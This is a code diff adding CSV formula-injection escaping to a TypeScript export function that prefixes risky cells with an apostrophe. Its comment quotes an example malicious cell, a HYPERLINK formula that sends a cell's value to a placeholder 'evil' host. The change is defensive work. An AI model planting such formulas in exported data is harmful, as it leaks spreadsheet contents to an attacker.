@@ -27,14 +27,20 @@ export interface QueryRoutesOptions {
 }
 
 /**
- * One CSV cell. CSV is read by people (a spreadsheet, a pager), so bidirectional formatting
- * characters are written as visible "<U+202E>" escapes rather than applied (docs/security.md);
- * the NDJSON export is the lossless one.
+ * One CSV cell. CSV is read by people (a spreadsheet, a pager), so bidirectional formatting and
+ * control characters are written as visible "<U+202E>" escapes rather than applied, and a cell
+ * a spreadsheet would run as a formula (one starting with = + - @ or a tab: a log line such as
+ * `=HYPERLINK("http://evil/?"&A1,"open")`) gets a leading apostrophe, OWASP's advice for CSV
+ * injection (docs/security.md); the NDJSON export is the lossless one.
  */
 function csvField(v: unknown): string {
-  const s = escapeBidiText(v === null || v === undefined ? '' : typeof v === 'string' ? v : JSON.stringify(v));
+  let s = escapeBidiText(v === null || v === undefined ? '' : typeof v === 'string' ? v : JSON.stringify(v));
+  if (FORMULA_START.test(s)) s = `'${s}`;
   return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
 }
+
+/** What a spreadsheet takes for the start of a formula (a CR is escaped before this is asked). */
+const FORMULA_START = /^[=+\-@\t]/;
 
 /** Where a page starts (src/shared/cursor.ts): at most one of these. */
 interface StartQuery {
